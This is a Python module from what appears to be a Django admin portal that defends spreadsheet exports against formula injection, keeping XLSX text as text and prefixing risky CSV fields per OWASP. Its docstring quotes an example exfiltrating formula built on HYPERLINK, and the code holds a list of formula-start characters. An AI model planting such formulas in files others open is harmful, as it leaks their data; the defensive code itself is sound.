"""Cells of the spreadsheets the portal writes carry text, never formulas.

What people type (an activity «- знакомство с…», a school called «=HYPERLINK(…)», a phone
«+7 …», «@user») must reach the reader exactly as typed and must not run when the file opens:
a formula can send a cell's value to another site (``=HYPERLINK("http://…?"&A1)``).

1. XLSX: a text is stored as a text cell with its content unchanged. openpyxl makes a formula
   of every str that starts with «=», so ``text_cell`` sets the cell's type back to text; a
   text that starts with a character a spreadsheet reads as the start of a formula also gets
   the «quote prefix» style (Excel's and LibreOffice's leading apostrophe, not part of the
   value): when someone edits that cell, it stays text. Numbers and dates stay numbers and dates.
2. CSV has no cell types, so ``csv_safe`` does what OWASP's «CSV Injection» page advises: a
   field that starts with «=», «+», «-», «@», tab, carriage return or line feed gets a single
   quote in front, and ``TextCSV`` wraps every field in double quotes (inner quotes doubled),
   so a separator or a quote inside a field never starts a new cell in the middle of it.

django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT removes a leading «=» (from
XLSX and CSV alike) and leaves «+», «-», «@» as they are: it changes the text and is not used.
The admin's formats are ``TextCSV`` and ``TextXLSX`` below.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils.exceptions import IllegalCharacterError

# First characters that make a spreadsheet read a typed or imported text as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def as_text(cell: Cell) -> Cell:
    """The cell, holding a str as text (openpyxl has just made a formula of «=…»)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def text_cell(sheet, value) -> WriteOnlyCell:
    """A cell of a write-only sheet: a text as text, anything else as openpyxl stores it."""
    return as_text(WriteOnlyCell(sheet, value=value))


def text_row(sheet, values: Iterable) -> list:
    """A row for ``sheet.append``: each text in a text cell, numbers, dates and blanks as they are."""
    return [text_cell(sheet, v) if isinstance(v, str) else v for v in values]


def put(sheet, row: int, column: int, value) -> Cell:
    """Write ``value`` into a cell of an ordinary (not write-only) sheet."""
    return as_text(sheet.cell(row=row, column=column, value=value))


def csv_safe(value):
    """A CSV field that a spreadsheet shows as the text, not as a formula (OWASP)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class TextCSV(base_formats.CSV):
    """The admin's CSV export: every field quoted, a formula-like start neutralised."""

    def export_data(self, dataset, **kwargs):
        safe = type(dataset)(
            *([csv_safe(v) for v in row] for row in dataset),
            headers=[csv_safe(h) for h in dataset.headers or []] or None,
        )
        return super().export_data(safe, quoting=csv.QUOTE_ALL, **kwargs)


class TextXLSX(base_formats.XLSX):
    """The admin's XLSX export: the header in bold, then the rows, texts as text cells."""

    def export_data(self, dataset, **kwargs):
        book = Workbook(write_only=True)
        sheet = book.create_sheet((dataset.title or "Лист1")[:31])
        sheet.freeze_panes = "A2"
        try:
            header = [text_cell(sheet, h) for h in dataset.headers or []]
            for cell in header:
                cell.font = Font(bold=True)
            sheet.append(header)
            for row in dataset:
                sheet.append(text_row(sheet, row))
        except IllegalCharacterError as exc:
            # The admin shows this message (not the value: it could be reflected), as the
            # library's own XLSX does, but in Russian.
            raise ValueError(
                "Выгрузка в XLSX не удалась: в тексте есть управляющий символ, которого Excel не "
                "допускает. Выгрузите в CSV или уберите символ из записи."
            ) from exc
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()


# django-import-export hands native numbers and dates (not their text) only to the formats in
# this list, matched by exact type: without this, TextXLSX would get every number as a string.
if TextXLSX not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(TextXLSX)
